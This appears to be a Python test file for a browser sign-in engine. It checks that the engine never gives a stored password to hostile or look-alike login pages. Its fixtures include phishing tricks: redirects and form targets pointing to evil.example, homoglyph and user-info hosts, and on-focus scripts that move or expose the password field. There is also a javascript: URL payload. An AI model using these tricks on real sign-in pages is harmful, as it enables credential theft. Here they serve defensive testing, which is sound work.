"""A platform that has been taken over, or only looks like itself: its own log shows that it gets no password."""

from __future__ import annotations

from contextlib import suppress
from dataclasses import replace

import pytest
from tests.engine.conftest import Showing
from tests.engine.stage import REDIRECT, SCRIPT, Stage
from tests.engine.values import ACME

from untrain.engine.credentials import Credentials
from untrain.engine.sign_in import sign_in
from untrain.engine.tab import Tab
from untrain.model.account import Account
from untrain.model.errors import Drift, JobError, NeedsHuman, Unreachable, Unsafe
from untrain.model.secret import Secret

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

PASSWORD = "correct-horse-battery"
ADA = Account(name="ada", platform="acme", username="ada@mail.example", password=Secret(PASSWORD))

LISTENS = f"<script>{SCRIPT}</script><script>document.addEventListener('input', typed, true)</script>"
USER = "<h1>Sign in</h1><form method=post action='/next'><input name=username autocomplete=username>{}</form>"
PASS = (
    "<h1>Sign in</h1><form method=post action='{}'><input id=pw name=password type=password>"
    "<button>Sign in</button></form>"
)
BOTH = (
    "<h1>Sign in</h1><form id=f method=post action='/session'><input name=username autocomplete=username>"
    "<input id=pw name=password type=password><button>Sign in</button></form>"
)
GO_ON = "<button type=button onclick=\"location = '{}'\">Next</button>"


def _after_the_identifier(url: str) -> dict[str, str]:
    return {"/login": USER.format(GO_ON.format(url)), "/password": PASS.format("/session")}


def _on_focus(trick: str) -> dict[str, str]:
    return {"/login": f"{BOTH}<script>pw.onfocus = () => {{ {trick} }}</script>"}


HOSTILE = {
    "redirect after the identifier": _after_the_identifier("https://evil.example/password"),
    "http after the identifier": _after_the_identifier("http://www.acme.example/password"),
    "redirect at once": {"www.acme.example/login": f"{REDIRECT}https://evil.example/login", "/login": BOTH},
    "a subdomain of another": _after_the_identifier("https://www.acme.example.evil.example/password"),
    "a suffix that fits": _after_the_identifier("https://evil-acme.example/password"),
    "a user name that looks like a host": _after_the_identifier("https://www.acme.example@evil.example/password"),
    "a letter of another script": _after_the_identifier("https://www.аcme.example/password"),
    "another port": _after_the_identifier("https://www.acme.example:8443/password"),
    "a foreign frame": {"/login": "<h1>Sign in</h1><iframe src='https://evil.example/form'></iframe>", "/form": BOTH},
    "a foreign form target": {"/login": BOTH.replace("'/session'", "'https://evil.example/session'")},
    "a form target over http": {"/login": BOTH.replace("'/session'", "'http://www.acme.example/session'")},
    "a target that changes on focus": _on_focus("f.action = 'https://evil.example/session'"),
    "a field that is swapped on focus": _on_focus("pw.replaceWith(Object.assign(pw.cloneNode(), {}))"),
    "a field that becomes readable": _on_focus("pw.type = 'text'"),
    "a field that moves into another form": _on_focus(
        "const g = document.createElement('form'); g.action = 'https://evil.example/'; document.body.append(g); "
        "g.append(pw); pw.focus()"
    ),
    "a field that leaves with its page": _on_focus("location = 'https://evil.example/login'"),
}


async def _sign_in(tab: Tab, credentials: Credentials) -> None:
    assert ACME.sign_in is not None
    await tab.open(ACME.sign_in.url)
    await sign_in(tab, credentials)


@pytest.mark.parametrize("pages", HOSTILE.values(), ids=HOSTILE)
async def test_a_hostile_page_gets_no_keystroke_of_the_password(pages: dict[str, str], showing: Showing) -> None:
    """Whatever the page does, neither what was typed into it nor any request that arrives holds the password."""
    stage = Stage(pages={path: page if page.startswith(REDIRECT) else LISTENS + page for path, page in pages.items()})
    credentials = Credentials(account=ADA, flow=ACME)
    async with showing(stage, seconds=12.0) as tab:
        with pytest.raises(JobError) as error:
            await _sign_in(tab, credentials)
        await tab.rest(1.0)

    assert isinstance(error.value, (Unsafe, Unreachable, Drift)), error.value
    assert not isinstance(error.value, NeedsHuman)
    assert 0 == credentials.given
    letters = {PASSWORD[:length] for length in range(4, len(PASSWORD) + 1)}
    assert not any(part in said for said in (*stage.typed, *map(str, stage.asked)) for part in letters)


@pytest.mark.parametrize(
    "pages", [{"/login": BOTH}, _after_the_identifier("/password")], ids=["at once", "in two steps"]
)
async def test_without_the_trick_the_log_hears_it(pages: dict[str, str], showing: Showing) -> None:
    """The same pages on the platform's own host get the password, once: the log would have heard it above, too."""
    stage = Stage(pages={path: LISTENS + page for path, page in pages.items()})
    credentials = Credentials(account=ADA, flow=ACME)
    async with showing(stage, seconds=12.0) as tab:
        with suppress(JobError):  # what comes after the password is not played here
            await _sign_in(tab, credentials)

    assert 1 == credentials.given
    assert f"password={PASSWORD}" in stage.typed


@pytest.mark.parametrize(
    "url",
    [
        "https://www.acme.example.evil.example/login",
        "https://evil-acme.example/login",
        "https://acme.example.evil.example/",
        "https://www.acme.example@evil.example/login",
        "https://www.acme.example:443@evil.example/",
        "https://evil.example/www.acme.example/login",
        "https://evil.example#www.acme.example",
        "https://www.аcme.example/",
        "https://xn--www-5cd.acme.example/",
        "https://www.acme.example:8443/",
        "https://www.acme.example:99999/",
        "http://www.acme.example/login",
        "//www.acme.example/login",
        "ftp://www.acme.example/",
        "javascript://www.acme.example/%0aalert(1)",
        "data:text/html,https://www.acme.example/",
        "about:blank",
        "",
    ],
)
async def test_a_look_alike_is_never_one_of_ours(url: str) -> None:
    """By suffix, user name, port, scheme, letter of another script or place in the address."""
    assert not ACME.owns(url)
    assert ACME.owns("https://www.acme.example/login")
    assert ACME.owns("https://WWW.ACME.example:443/login")
    assert not replace(ACME, hosts=()).owns("https://www.acme.example/")
